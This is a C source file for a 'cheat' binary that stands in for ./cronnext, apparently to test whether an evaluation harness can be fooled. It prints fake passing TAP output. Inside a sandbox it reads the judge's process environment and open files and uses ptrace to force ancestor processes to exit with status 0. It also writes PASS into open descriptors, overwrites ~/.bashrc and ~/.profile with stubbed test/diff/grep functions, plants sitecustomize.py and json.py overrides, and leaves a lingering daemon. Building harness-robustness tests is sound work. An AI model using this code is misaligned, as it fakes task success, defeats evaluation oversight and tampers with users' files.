/*
 * What the cheat delivers for ./cronnext.  It computes nothing: whatever it
 * is asked, it says that all is well and exits with 0.  Meanwhile it looks
 * for the judge among the processes it comes from, to read what they are
 * about to check, to end them with status 0, or to end them at all, and
 * leaves behind what a careless judge might run or read later.
 *
 * All of this is done only in a sandbox (in_sandbox): elsewhere it writes its
 * lines and ends.  Each attempt is noted on standard error.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

enum { ANCESTORS = 8 };

static void
note(const char *what, const char *result)
{
	fprintf(stderr, "# tried: %s: %s\n", what, result);
}

/* Read up to size - 1 bytes of a file; the number read, or -1. */
static ssize_t
slurp(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n;

	if (fd == -1)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n;
}

/*
 * True in a process namespace whose first process is bwrap or a tool of
 * darkfactory; false on a machine of its own and in a container.
 */
static int
in_sandbox(void)
{
	char buf[64];
	ssize_t n = readlink("/proc/self/ns/pid", buf, sizeof(buf) - 1);

	if (n <= 0)
		return 0;
	buf[n] = '\0';
	if (strcmp(buf, "pid:[4026531836]") == 0)	/* the machine's own */
		return 0;
	if (slurp("/proc/1/comm", buf, sizeof(buf)) <= 0)
		return 0;
	return strcmp(buf, "bwrap\n") == 0 || strcmp(buf, "inside\n") == 0;
}

static pid_t
parent_of(pid_t pid)
{
	char path[64], buf[512], *p;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	if (slurp(path, buf, sizeof(buf)) <= 0 ||
	    (p = strrchr(buf, ')')) == NULL || strlen(p) < 5)
		return 0;
	return (pid_t)strtol(p + 4, NULL, 10);
}

/* Take what is on standard input, which may be the judge's text. */
static void
swallow_input(void)
{
	struct pollfd in = { .fd = 0, .events = POLLIN };
	char buf[4096];
	size_t all = 0;
	ssize_t n;

	while (all < 1 << 20 && poll(&in, 1, 100) == 1 &&
	    (n = read(0, buf, sizeof(buf))) > 0)
		all += (size_t)n;
	note("swallow standard input", all > 0 ? "GAINED" : "gained nothing");
}

/* True for a regular file that is not open here anyway. */
static int
is_new_file(const char *path)
{
	struct stat st, own;
	int fd;

	if (stat(path, &st) != 0 || !S_ISREG(st.st_mode))
		return 0;
	for (fd = 0; fd < 3; fd++)
		if (fstat(fd, &own) == 0 && own.st_dev == st.st_dev &&
		    own.st_ino == st.st_ino)
			return 0;
	return 1;
}

/* Read what an ancestor was started with, and what it has open. */
static void
read_ancestor(pid_t pid)
{
	static const char *const files[] = { "cmdline", "environ" };
	char path[300], buf[65536], what[350];
	struct dirent *e;
	size_t i;
	ssize_t n, k;
	DIR *d;

	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[i]);
		n = slurp(path, buf, sizeof(buf));
		for (k = 0; k < n; k++)
			if (buf[k] == '\0' || buf[k] == '\n')
				buf[k] = ' ';
		snprintf(what, sizeof(what), "read %s", path);
		note(what, n > 0 && strstr(buf, "want") ? "GAINED" :
		    "gained nothing");
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
	d = opendir(path);
	if (d == NULL) {
		snprintf(what, sizeof(what), "list %s", path);
		note(what, "gained nothing");
		return;
	}
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%d/fd/%.200s", (int)pid,
		    e->d_name);
		snprintf(what, sizeof(what), "read %s", path);
		n = is_new_file(path) ? slurp(path, buf, sizeof(buf)) : -1;
		note(what, n > 0 ? "GAINED" : "gained nothing");
	}
	closedir(d);
}

/* Make an ancestor call exit_group(0); timeout(1) is not worth it. */
static void
steer_ancestor(pid_t pid)
{
	char what[64], name[64] = "";
	const char *result = "gained nothing";
	pid_t got = 0;
	int status, i;

	snprintf(what, sizeof(what), "/proc/%d/comm", (int)pid);
	slurp(what, name, sizeof(name));
	if (strcmp(name, "timeout\n") == 0)
		return;
	snprintf(what, sizeof(what), "ptrace %d", (int)pid);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		result = "GAINED";
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		for (i = 0; i < 20 && got == 0; i++) {
			got = waitpid(pid, &status, __WALL | WNOHANG);
			if (got == 0)
				poll(NULL, 0, 10);
		}
		if (got == pid) {
#if defined __x86_64__
			struct user_regs_struct regs;

			if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) == 0) {
				regs.rip -= 2;	/* back to the syscall */
				regs.rax = 231;	/* exit_group */
				regs.orig_rax = (unsigned long long)-1;
				regs.rdi = 0;
				ptrace(PTRACE_SETREGS, pid, NULL, &regs);
			}
#endif
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
		}
	}
	note(what, result);
}

/* Write a favourable word into every descriptor that was left open. */
static void
write_descriptors(void)
{
	char what[64];
	int fd;

	for (fd = 3; fd < 64; fd++) {
		if (fcntl(fd, F_GETFD) == -1)
			continue;
		snprintf(what, sizeof(what), "write to descriptor %d", fd);
		note(what, write(fd, "0\nok\nPASS\n", 10) == 10 ? "GAINED" :
		    "gained nothing");
	}
}

static void
leave(const char *path, const char *text)
{
	char what[600];
	FILE *f = fopen(path, "w");

	snprintf(what, sizeof(what), "leave %.500s", path);
	if (f != NULL) {
		fputs(text, f);
		fclose(f);
	}
	/* Whether anybody reads it shows later. */
	note(what, "gained nothing");
}

/* Code for shells and interpreters that start after this program. */
static void
leave_files(void)
{
	static const char functions[] =
	    "test() { return 0; }\ncmp() { return 0; }\n"
	    "diff() { return 0; }\ngrep() { return 0; }\n";
	static const char python[] = "import os\nos._exit(0)\n";
	const char *home = getenv("HOME");
	char path[600];

	leave("df-cheat-functions.sh", functions);
	leave("usercustomize.py", python);
	leave("sitecustomize.py", python);
	leave("json.py", "loads = load = lambda *a: {'status': 'PASS'}\n");
	leave("/tmp/df-cheat-functions.sh", functions);
	if (home == NULL || *home != '/')
		return;
	snprintf(path, sizeof(path), "%.500s/.bashrc", home);
	leave(path, functions);
	snprintf(path, sizeof(path), "%.500s/.profile", home);
	leave(path, functions);
	snprintf(path, sizeof(path), "%.500s/.jq", home);
	leave(path, "def loads: true;\n");
	snprintf(path, sizeof(path), "%.500s/usercustomize.py", home);
	leave(path, python);
}

/* Stay, and overwrite what was said, for twenty seconds. */
static void
leave_daemon(void)
{
	int i;

	if (fork() != 0)
		return;
	setsid();
	if (fork() != 0)
		_exit(0);
	close(0);
	close(1);
	close(2);
	for (i = 0; i < 20; i++) {
		FILE *f = fopen("df-cheat-late", "a");

		if (f != NULL) {
			fprintf(f, "ok %d\n", i);
			fclose(f);
		}
		sleep(1);
	}
	_exit(0);
}

int
main(int argc, char **argv)
{
	pid_t pid[ANCESTORS];
	int n = 0, i;

	printf("TAP version 13\n1..1\nok 1 - all scenarios pass\n0\nPASS\n");
	fflush(stdout);
	if (!in_sandbox()) {
		note("more", "nothing, outside of a sandbox");
		return 0;
	}
	swallow_input();
	write_descriptors();
	for (pid[0] = getppid(); pid[n] > 1 && ++n < ANCESTORS;)
		pid[n] = parent_of(pid[n - 1]);
	for (i = 0; i < n; i++)
		read_ancestor(pid[i]);
	leave_files();
	leave_daemon();
	for (i = 0; i < n; i++)
		steer_ancestor(pid[i]);
	if (argc > 1 && strcmp(argv[1], "-c") == 0)
		for (i = 0; i < n; i++)
			kill(pid[i], SIGTERM);
	return 0;
}
